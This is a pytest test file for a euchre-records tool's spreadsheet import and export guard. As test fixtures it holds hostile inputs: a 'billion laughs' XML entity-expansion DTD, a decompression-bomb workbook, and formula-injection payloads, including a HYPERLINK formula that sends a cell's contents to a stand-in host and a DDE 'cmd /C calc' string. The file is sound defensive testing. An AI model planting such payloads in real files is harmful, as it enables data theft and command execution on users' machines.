"""Spreadsheets from outside (issue 22): malformed workbooks are one line, not a traceback; a small
file that would expand to hundreds of MB is refused before anything is parsed; the limits hold
for CSV too; a ``;``-separated CSV is read; the exports neutralise formula cells, and our own
export reads back exactly (interop/sheets/guard.py)."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings, strategies as st

from euchre_records.cli.main import main

from euchre_records.interop.sheets import guard
from euchre_records.interop.sheets.table import sheet_xlsx

openpyxl = pytest.importorskip("openpyxl")
ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = (ROOT / "examples" / "sheet-template.csv").read_text()
SHEET_PART = "xl/worksheets/sheet1.xml"


def _good_xlsx() -> bytes:
    return sheet_xlsx(TEMPLATE)


def _with_part(name: str, content: bytes | None, *, drop: tuple[str, ...] = ()) -> bytes:
    """The template workbook with part ``name`` replaced (or removed when None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_good_xlsx())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop or (info.filename == name and content is None):
                continue
            dst.writestr(info.filename, content if info.filename == name else src.read(info))
    return out.getvalue()


def _sheet_xml(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="http://schemas.'
            f'openxmlformats.org/spreadsheetml/2006/main"><sheetData>{body}</sheetData>'
            "</worksheet>").encode()


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
MALFORMED = {
    "bad sheet XML": (_with_part(SHEET_PART, b"<worksheet><sheetData><row r='1'><c"),
                      "not a readable .xlsx workbook"),
    "entity expansion": (_with_part(SHEET_PART, _sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>', LAUGHS)),
        "declares a DTD"),
    "an undefined entity": (_with_part(SHEET_PART, _sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&nothing;</t></is></c></row>')),
        "not a readable .xlsx workbook"),
    "no worksheet": (_with_part("xl/workbook.xml", (
        b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheets/></workbook>'), drop=(SHEET_PART,)),
        "no worksheet"),
    "not a zip": (b"date,club\n2026,Riverside\n", "not a zip file"),
    "a truncated zip": (_good_xlsx()[:300], "not an .xlsx workbook"),
}


@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_workbook_is_one_line(tmp_path: Path, case: str) -> None:
    content, said = MALFORMED[case]
    path = tmp_path / "bad.xlsx"
    path.write_bytes(content)
    for command in (["validate", str(path)], ["import", str(path), "--db",
                                              str(tmp_path / "x.db")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 1, (case, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), \
            (case, repr(result.exception))
        assert "Traceback" not in result.output and said in result.output, (case, result.output)
        problem_lines = [line for line in result.output.splitlines() if ": invalid:" in line]
        assert len(problem_lines) == 1, result.output


def test_a_small_workbook_that_expands_past_the_limit_is_refused_before_parsing(
        tmp_path: Path, monkeypatch: Any) -> None:
    """The issue's 310 KB workbook whose cells expand to hundreds of MB: here shared strings
    of 48 MiB zipped to a few dozen KB. Refused from the sizes the zip declares, before openpyxl
    opens it, in a few MB of memory."""
    strings = (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml'
               b'/2006/main">' + b"<si><t>" + b"A" * (48 << 20) + b"</t></si></sst>")
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_add_part("xl/sharedStrings.xml", strings))
    assert path.stat().st_size < 400_000
    monkeypatch.setattr(openpyxl, "load_workbook", _never)
    tracemalloc.start()
    try:
        result = CliRunner().invoke(main, ["validate", str(path)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.exit_code == 1 and "would expand to" in result.output, result.output
    assert peak < 20 << 20  # far below the 48 MiB the part declares


def _add_part(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_good_xlsx())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        dst.writestr(name, content)
    return out.getvalue()


def _never(*args: Any, **kwargs: Any) -> Any:
    raise AssertionError("the workbook was parsed")


def test_the_row_column_and_cell_limits_hold_for_csv_and_xlsx(tmp_path: Path,
                                                              monkeypatch: Any) -> None:
    monkeypatch.setattr(guard, "MAX_ROWS", 5)
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"long{suffix}"
        if suffix == ".csv":
            path.write_text(TEMPLATE)
        else:
            path.write_bytes(_good_xlsx())
        result = CliRunner().invoke(main, ["validate", str(path)])
        assert result.exit_code == 1 and "more than 5 rows" in result.output, result.output
    monkeypatch.setattr(guard, "MAX_ROWS", 100)
    long_cell = TEMPLATE.replace("Friday night", "F" * (guard.MAX_CELL + 1))
    (tmp_path / "cell.csv").write_text(long_cell)
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "cell.csv")])
    assert result.exit_code == 1 and "row 2, column 3: a cell of 2,001 characters" in \
        result.output, result.output
    (tmp_path / "cell.xlsx").write_bytes(sheet_xlsx(long_cell))
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "cell.xlsx")])
    assert result.exit_code == 1 and "a cell of 2,001 characters" in result.output
    monkeypatch.setattr(guard, "MAX_FILE_BYTES", 100)
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "cell.csv")])
    assert result.exit_code == 1 and "a sheet may have at most 100" in result.output


@pytest.mark.parametrize("sheet", ["examples/sheet-template.csv", "tests/golden/sheets/tuesday.csv"])
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_semicolon_or_tab_separated_csv_reads_as_the_comma_one(tmp_path: Path, sheet: str,
                                                                 delimiter: str) -> None:
    """Either sheet's columns, a column per side or per player."""
    rows = list(csv.reader(io.StringIO((ROOT / sheet).read_text(encoding="utf-8"))))
    rows[1][1] = "Elks Lodge 325, Ann Arbor"  # a comma inside a cell of a ;-separated file
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    (tmp_path / "s.csv").write_text(out.getvalue())
    comma = io.StringIO()
    csv.writer(comma, lineterminator="\n").writerows(rows)
    (tmp_path / "c.csv").write_text(comma.getvalue())
    runner = CliRunner()
    got = runner.invoke(main, ["export", str(tmp_path / "s.csv"), "--to", "jsonl"])
    want = runner.invoke(main, ["export", str(tmp_path / "c.csv"), "--to", "jsonl"])
    assert got.exit_code == want.exit_code == 0, got.output
    assert got.stdout == want.stdout
    assert json.loads(got.stdout.splitlines()[0])["event"]["club"] == "Elks Lodge 325, Ann Arbor"


# --- exports that cannot attack a spreadsheet -------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "'=x",
           "''+y", "'t Hooft"]


def _record(names: list[str]) -> dict[str, Any]:
    return {"format": "euchre-records", "version": "1.0",
            "event": {"club": names[0], "event": "Friday", "table": "4"},
            "players": {s: {"name": n} for s, n in zip("NESW", names)},
            "rules": {"preset": "modern"},
            "deals": [{"kind": "result", "dealer": "N",
                       "result": {"maker": "E", "trump": "H", "tricks": 3}}]}


# At every table the same rule for every player's cell (north .. west, or player_i) and the
# sitting's labels. The expected cells are written out by hand from OWASP's rule: a ' in front of
# a cell that begins, after any apostrophes, with = + - @.
TABLES = [
    (None, HOSTILE[:4],   # four-handed: _record's
     ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+1", "'-2+3", "'@SUM(1)"]),
    ("cutthroat-game.json", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "'=x"],
     ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+1", "''=x"]),
    ("five-handed-game.json", ["-2+3", "@SUM(1)", "''+y", "'t Hooft", "=1+2"],
     ["'-2+3", "'@SUM(1)", "'''+y", "'t Hooft", "'=1+2"]),
]
CLUB = "=cmd|' /C calc'!A0"


def _sitting(tmp_path: Path, example: str | None, names: list[str]) -> tuple[Path, list[str]]:
    """A record of ``names`` (four-handed: _record's; else the example's) and the hostile club,
    written to a file; and the sheet's columns of its players."""
    if example is None:
        data, columns = _record(names), ["north", "east", "south", "west"]
    else:
        data = json.loads((ROOT / "examples" / example).read_text(encoding="utf-8"))
        data["players"] = {str(i): {"name": n} for i, n in enumerate(names)}
        columns = [f"player_{i}" for i in range(len(names))]
    data["event"]["club"] = CLUB
    path = tmp_path / (example or "four.json")
    path.write_text(json.dumps(data), encoding="utf-8")
    return path, columns


@pytest.mark.parametrize("example, names, written", TABLES)
def test_formula_names_are_neutralised_in_the_csv_export(
        tmp_path: Path, example: str | None, names: list[str], written: list[str]) -> None:
    path, columns = _sitting(tmp_path, example, names)
    out = CliRunner().invoke(main, ["export", str(path), "--to", "csv"])
    assert out.exit_code == 0, out.output
    row = next(csv.DictReader(io.StringIO(out.stdout)))
    assert row.get("seats", "4") == str(len(names))   # four-handed sheets have no seats column
    assert [row[c] for c in columns] == written
    assert row["club"] == "'" + CLUB
    assert not re.search(r'(^|,)"?[=+@-]', out.stdout, re.M)   # no bare formula cell anywhere


@pytest.mark.parametrize("example, names, written", TABLES)
def test_the_xlsx_export_writes_names_as_text_never_formulas(
        tmp_path: Path, example: str | None, names: list[str], written: list[str]) -> None:
    path, columns = _sitting(tmp_path, example, names)
    out = CliRunner().invoke(main, ["export", str(path), "--to", "xlsx"])
    assert out.exit_code == 0, out.output
    sheet = openpyxl.load_workbook(io.BytesIO(out.stdout_bytes)).worksheets[0]
    cells = {h.value: c for h, c in zip(sheet[1], sheet[2])}
    for column, name in zip(columns, names):
        assert cells[column].data_type == "s" and cells[column].value == name
    assert cells["club"].value == CLUB
    with zipfile.ZipFile(io.BytesIO(out.stdout_bytes)) as book:
        assert "<f>" not in book.read(SHEET_PART).decode()


def test_every_csv_format_output_neutralises_formula_cells(tmp_path: Path) -> None:
    db = str(tmp_path / "c.db")
    (tmp_path / "r.json").write_text(json.dumps(_record(["=1+1", "Bob", "Cy", "Di"])))
    runner = CliRunner()
    assert runner.invoke(main, ["import", str(tmp_path / "r.json"), "--db", db]).exit_code == 0
    listed = runner.invoke(main, ["rubbers", "--db", db, "--format", "csv"]).stdout
    assert next(csv.DictReader(io.StringIO(listed)))["ns_players"] == "'=1+1 & Cy"
    players = runner.invoke(main, ["players", "--db", db, "--format", "csv"]).stdout
    assert "'=1+1" in {r["name"] for r in csv.DictReader(io.StringIO(players))}
    assert not re.search(r"(^|,)=", players + listed, re.M)


_names = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cf", "Cs")),
                 min_size=1, max_size=10).filter(lambda n: n.strip() == n and n.strip())


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.sampled_from(HOSTILE) | _names, min_size=4, max_size=4))
@example(names=HOSTILE[:4])
@example(names=HOSTILE[3:])
def test_our_own_export_reads_back_exactly(tmp_path_factory: Any, names: list[str]) -> None:
    """The round trip: a record → the CSV (and xlsx) export → read → the same record."""
    folder = tmp_path_factory.mktemp("sheet")
    (folder / "r.json").write_text(json.dumps(_record(names), ensure_ascii=False),
                                   encoding="utf-8")
    runner = CliRunner()
    want = runner.invoke(main, ["export", str(folder / "r.json"), "--to", "jsonl"])
    if want.exit_code != 0:  # a name the notation refuses: not this property's concern
        return
    for target in ("csv", "xlsx"):
        out = runner.invoke(main, ["export", str(folder / "r.json"), "--to", target])
        assert out.exit_code == 0, out.output
        (folder / f"r.{target}").write_bytes(out.stdout_bytes)
        back = runner.invoke(main, ["export", str(folder / f"r.{target}"), "--to", "jsonl"])
        assert back.exit_code == 0, back.output
        assert json.loads(back.stdout) == json.loads(want.stdout), target
